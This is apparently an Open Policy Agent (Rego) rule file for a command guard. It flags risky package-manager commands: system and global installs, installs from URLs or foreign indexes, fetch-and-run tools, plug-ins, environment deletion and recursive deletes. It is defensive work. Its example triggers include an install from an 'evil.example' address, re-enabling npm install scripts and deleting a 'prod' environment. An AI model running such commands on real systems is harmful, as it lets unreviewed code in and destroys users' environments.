# METADATA
# title: Packages
# description: |
#   Code of strangers that comes in.
package guard.rules.packages

import data.guard.stage

# METADATA
# title: Changes the machine's packages
# description: System packages change what every program on the machine runs on.
# custom:
#   id: package.system
#   remedy: use the project's own package manager, or ask a person
#   fires: sudo apt-get install -y jq
#   quiet: apt list --installed
hit contains {"id": "package.system", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.system_packages[s.name]
	_changes_packages(s)
	not stage.dry(s)
	not stage.help(s)
	msg := sprintf("changes the machine's packages: %s", [stage.line(s)])
}

# METADATA
# title: Installs for the whole machine
# description: Global installs run install scripts and change what other projects use.
# custom:
#   id: package.global
#   remedy: install it in the project
#   fires: npm install -g x
#   quiet: npm install
hit contains {"id": "package.global", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_installs_globally(s)
	not stage.help(s)
	msg := sprintf("installs for the whole machine: %s", [stage.line(s)])
}

# METADATA
# title: Installs from an address
# description: A package from an address is reviewed and recorded by nobody, and may run scripts on installation.
# custom:
#   id: package.foreign
#   remedy: install it by name and version from the registry
#   fires: 'npm install https://evil.example/pkg.tgz'
#   quiet: npm install left-pad
hit contains {"id": "package.foreign", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "bun", "pip", "pip3", "uv", "gem", "cargo", "poetry", "pipx", "python", "python3"}
	some word in array.concat(s.operands, _requirements(s))
	_address(s, word)
	_installs(s)
	not stage.help(s)
	msg := sprintf("installs code from an address: %s", [stage.cut(word)])
}

# METADATA
# title: Takes packages from another place
# description: Whoever runs that server decides what is installed; a name that is also public may come from there.
# custom:
#   id: package.source
#   remedy: leave the option out, or set the index in the project's configuration and let a person review it
#   fires: pip install --extra-index-url https://packages.example/simple lib
#   quiet: pip install torch --index-url https://download.pytorch.org/whl/cpu
hit contains {"id": "package.source", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.rules.packages.managers[s.name]
	some o in s.options
	o.name in {
		"registry", "index-url", "extra-index-url", "default-index", "index", "i", "find-links", "f", "source", "s",
		"clear-sources", "trusted-host", "c", "channel",
	}
	regex.match(`^(https?|ftp)://`, o.value)
	not _known_source(o.value)
	not stage.help(s)
	msg := sprintf("takes packages from %s", [stage.cut(o.value)])
}

# METADATA
# title: Adds a plug-in to a tool
# description: A plug-in runs with every later use of the tool, with the person's rights.
# custom:
#   id: package.plugin
#   remedy: ask a person
#   fires: gh extension install ann/gh-x
#   quiet: gh extension list
hit contains {"id": "package.plugin", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_adds_plugin(s)
	not stage.help(s)
	msg := sprintf("adds a plug-in: %s", [stage.line(s)])
}

# METADATA
# title: Deletes an environment or a tool chain
# description: Other projects may use it, and what was installed by hand is gone.
# custom:
#   id: package.environment
#   remedy: make a new environment with another name
#   fires: conda env remove -n prod
#   quiet: conda env list
hit contains {"id": "package.environment", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_deletes_environment(s)
	not stage.help(s)
	msg := sprintf("deletes an environment: %s", [stage.line(s)])
}

# METADATA
# title: Downloads and runs a package
# description: The package is fetched and started in one step, without a look at it.
# custom:
#   id: package.fetch_run
#   remedy: add it to the project with a version, then run it
#   fires: npx -y unknown-pkg@latest
#   quiet: npx tsc --noEmit
hit contains {"id": "package.fetch_run", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_fetches_and_runs(s)
	not stage.help(s)
	msg := sprintf("downloads and runs a package: %s", [stage.line(s)])
}

# METADATA
# title: Changes where packages come from
# description: A registry, proxy or script setting decides what every later installation runs.
# custom:
#   id: package.config
#   remedy: keep it in the project's own configuration and let a person review it
#   fires: npm config set ignore-scripts false
#   quiet: npm config get registry
hit contains {"id": "package.config", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "pip", "pip3", "gem", "bundle", "cargo", "poetry", "go", "composer", "add-apt-repository", "apt-add-repository", "apt-key"}
	_sets_source(s)
	not stage.help(s)
	msg := sprintf("changes where packages come from: %s", [stage.line(s)])
}

# METADATA
# title: Deletion by package
# description: rimraf, del-cli and trash delete trees as rm -r does.
# custom:
#   id: package.rimraf
#   remedy: delete named files
#   fires: npx rimraf src
#   quiet: npx eslint src
hit contains {"id": "package.rimraf", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_rimraf(s)
	not stage.help(s)
	msg := sprintf("recursive delete: %s", [stage.line(s)])
}

_changes_packages(s) if {
	data.guard.tables.system_package_verbs[s.sub] == true
}

_changes_packages(s) if {
	s.sub == ""
	not s.operands[0] in {"search", "show", "list", "info", "policy", "depends", "rdepends", "help", "desc", "view", "deps"}
	some word in s.operands
	data.guard.tables.system_package_verbs[word] == true
}

_changes_packages(s) if {
	s.name in {"pacman", "rpm", "dpkg", "nix-env", "emerge"}
	not stage.shows(s)
	not _searches(s)
	some flag in s.flags
	regex.match(`^(S|R|U|i|e|install|remove|purge|P|r|erase|upgrade|unmerge|C)$`, flag)
}

_searches(s) if {
	s.name in {"pacman", "emerge"}
	some search in [{"S", "s"}, {"S", "i"}, {"S", "l"}, {"sync", "search"}, {"search"}]
	count(search - {flag | some flag in s.flags}) == 0
	not "y" in s.flags
}

_searches(s) if {
	s.name == "rpm"
	some flag in ["q", "query", "V", "verify"]
	flag in s.flags
}

_installs_globally(s) if {
	s.name in {"npm", "pnpm", "bun", "yarn"}
	some flag in ["g", "global"]
	flag in s.flags
	_installs(s)
}

_installs_globally(s) if {
	s.name == "yarn"
	startswith(s.sub, "global")
}

_installs_globally(s) if {
	s.name == "cargo"
	s.sub == "install"
	count(s.operands) > 0
	not "path" in s.flags
}

_installs_globally(s) if {
	s.name in {"pipx", "uv"}
	words := array.concat(split(s.sub, " "), s.operands)
	some i, word in words
	word == "install"
	array.slice(words, 0, i) in [[], [""], ["tool"], ["", "tool"]]
	not _known_tool(words[i + 1])
	not words[0] == "pip"
}

_installs_globally(s) if {
	s.name == "nix"
	array.slice(s.operands, 0, 2) in [["profile", "install"], ["profile", "add"], ["profile", "remove"], ["profile", "upgrade"]]
}

_installs_globally(s) if {
	s.name == "dotnet"
	array.slice(s.operands, 0, 2) in [["tool", "install"], ["tool", "update"]]
	some flag in ["g", "global"]
	flag in s.flags
}

_installs_globally(s) if {
	s.name == "npm"
	s.sub == "link"
	count(s.operands) == 0
}

_installs_globally(s) if {
	s.name in {"pip", "pip3"}
	"break-system-packages" in s.flags
}

_installs_globally(s) if {
	s.name == "composer"
	stage.verb(s) == "global"
	_installs(s)
}

_installs_globally(s) if {
	s.name == "composer"
	s.operands[0] == "global"
	s.operands[1] in {"require", "update", "remove"}
}

_installs(s) if {
	some word in array.concat([s.sub], s.args)
	word in {"install", "i", "add", "update", "upgrade", "uninstall", "remove", "rm", "ci", "link", "un"}
}

_fetches_and_runs(s) if {
	s.name in {"npx", "bunx", "uvx", "pnpx"}
	some flag in ["y", "yes"]
	flag in s.flags
	not _known_tool(s.operands[0])
}

_fetches_and_runs(s) if {
	s.name in {"npx", "bunx", "uvx", "pnpx"}
	some o in s.options
	o.name in {"p", "package", "from", "with"}
	not _known_tool(o.value)
}

_fetches_and_runs(s) if {
	s.name in {"npx", "bunx", "uvx", "pnpx"}
	word := s.operands[0]
	regex.match(`^(@[^/]+/)?[^@/]+@|^(github|gitlab|bitbucket|git|git\+https?|https?):|^[^@/.][^/]*/[^/]`, word)
	not _known_tool(word)
}

_fetches_and_runs(s) if {
	s.name in {"pnpm", "yarn", "npm"}
	some word in array.concat([s.sub], s.operands)
	word in {"dlx", "x", "exec"}
	not _starts_local(s, word)
	some tool in array.slice([o | some o in s.operands; o != word], 0, 1)
	_dlx(s, word, tool)
}

_fetches_and_runs(s) if {
	s.name in {"pnpm", "yarn", "npm", "bun"}
	some word in array.concat([s.sub], s.operands)
	word in {"create", "init"}
	some tool in array.slice([o | some o in s.operands; o != word], 0, 1)
	regex.match(`[/:]`, tool)
	not startswith(tool, "@")
}

_fetches_and_runs(s) if {
	s.name == "pipx"
	stage.verb(s) == "run"
	not _known_tool(s.operands[count(s.operands) - 1])
	not _known_tool(s.operands[1])
}

_fetches_and_runs(s) if {
	s.name == "go"
	s.sub in {"run", "install"}
	some word in s.operands
	regex.match(`^[a-z0-9.-]+\.[a-z]+/.*@`, word)
}

_fetches_and_runs(s) if {
	s.name == "deno"
	some word in s.args
	regex.match(`^(https?:|npm:|jsr:)`, word)
}

# dlx always downloads; npm exec does where the version or the address says so.
_dlx(_, "dlx", tool) if not _known_tool(tool)

_dlx(_, word, tool) if {
	word in {"x", "exec"}
	regex.match(`^(@[^/]+/)?[^@/]+@|:|^[^@/.][^/]*/[^/]`, tool)
	not _known_tool(tool)
}

_starts_local(s, "exec") if s.name in {"yarn", "pnpm"}

# Scaffolders are named create-*; the others are in a table of tools that projects use.
_known_tool(word) if regex.match(`^(@[a-z0-9-]+/)?create(-[a-z0-9-]+)?(@[a-z0-9.^~-]+)?$`, word)

_known_tool(word) if {
	parts := regex.find_all_string_submatch_n(`^((?:@[^/@]+/)?[^/@:]+)(?:(?:@|==)[A-Za-z0-9.^~*_-]*)?$`, word, 1)
	data.guard.rules.packages.tools[parts[0][1]]
}

_known_source(url) if {
	parts := regex.find_all_string_submatch_n(`^https://([^/:@]+)(/|$)`, url, 1)
	data.guard.rules.packages.sources[parts[0][1]]
}

_known_source(url) if regex.match(`^https?://(localhost|127\.[0-9.]+|\[::1\])(:[0-9]+)?(/|$)`, url)

_address(_, word) if {
	regex.match(`^(git\+|https?:|git:|ssh:|[a-z]+\+https?:|github:|gitlab:|bitbucket:|gist:|git@)`, word)
	not _known_source(word)
}

# npm's short form for a repository of GitHub
_address(s, word) if {
	s.name in {"npm", "pnpm", "yarn", "bun"}
	regex.match(`^[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+(#.*)?$`, word)
}

_address(s, word) if {
	s.name in {"pip", "pip3", "uv", "pipx", "python", "python3"}
	regex.match(`^[A-Za-z0-9._\[\],-]+ *@ *(git\+|https?:)`, word)
}

_requirements(s) := [o.value | some o in s.options; o.name in {"r", "requirement", "e", "editable", "git"}]

_adds_plugin(s) if {
	s.name == "gh"
	words := array.concat(split(s.sub, " "), s.operands)
	words[0] == "extension"
	words[1] in {"install", "upgrade"}
}

_adds_plugin(s) if {
	s.name in {"code", "codium", "cursor", "code-insiders"}
	"install-extension" in s.flags
}

_adds_plugin(s) if {
	s.name in {"kubectl", "docker", "helm"}
	words := array.concat(split(s.sub, " "), s.operands)
	words[0] in {"plugin", "krew"}
	words[1] in {"install", "upgrade", "update"}
}

_adds_plugin(s) if {
	s.name in {"vim", "nvim", "vi"}
	some word in s.args
	regex.match(`^\+(Plug|Packer|Lazy)[A-Za-z ]*(Install|Update|Upgrade|Sync|sync|install|update)`, word)
}

_adds_plugin(s) if {
	s.name == "easy_install"
	count(s.operands) > 0
}

_deletes_environment(s) if {
	s.name in {"conda", "mamba", "micromamba"}
	"remove" in s.args
	some word in s.args
	word in {"env", "--all"}
	not _own_environment(s)
}

# By its name for tests, or in a folder of the workspace.
_own_environment(s) if {
	some i, word in s.args
	word in {"-n", "--name"}
	regex.match(`(?i)(^|[._-])(test|tests|tmp|temp|scratch|ci|try|demo|sandbox)([._-]|[0-9]|$)`, s.args[i + 1])
}

_own_environment(s) if {
	some i, word in s.args
	word in {"-p", "--prefix"}
	regex.match(`^(\./)?[^/.~$][^$~]*$|^\./?\.?[A-Za-z]`, s.args[i + 1])
	not contains(s.args[i + 1], "..")
}

_deletes_environment(s) if {
	s.name in {"rustup", "uv", "poetry", "pyenv", "nvm"}
	array.slice(s.args, 0, 2) in {["self", "uninstall"], ["self", "remove"]}
}

_deletes_environment(s) if {
	s.name == "nix-collect-garbage"
	some flag in s.flags
	flag in {"d", "delete-old"}
}

_sets_source(s) if {
	words := [word | some word in array.concat(split(s.sub, " "), s.operands); word != ""]
	words[0] in {"config", "set"}
	some verb in words
	verb in {"set", "delete", "edit"}
	some key in words
	regex.match(`(?i)(registry|^repositories|^repo|index-url|extra-index|ignore-scripts|script-shell|proxy|cafile|strict-ssl|trusted-host|node-options|prefix|source|mirror)`, key)
}

_sets_source(s) if {
	s.name == "composer"
	stage.verb(s) == "config"
	some key in s.operands
	regex.match(`^(repositories|repo)\.`, key)
}

_sets_source(s) if {
	s.name in {"add-apt-repository", "apt-add-repository", "apt-key"}
	count(s.args) > 0
	not s.args[0] in {"list", "--list", "-L", "finger", "export"}
}

_sets_source(s) if {
	s.name == "go"
	s.sub == "env"
	"w" in s.flags
}

_sets_source(s) if {
	s.name == "gem"
	stage.verb(s) == "sources"
	some flag in ["a", "add", "r", "remove"]
	flag in s.flags
}

_rimraf(s) if s.name in {"rimraf", "del-cli", "del", "trash-empty"}
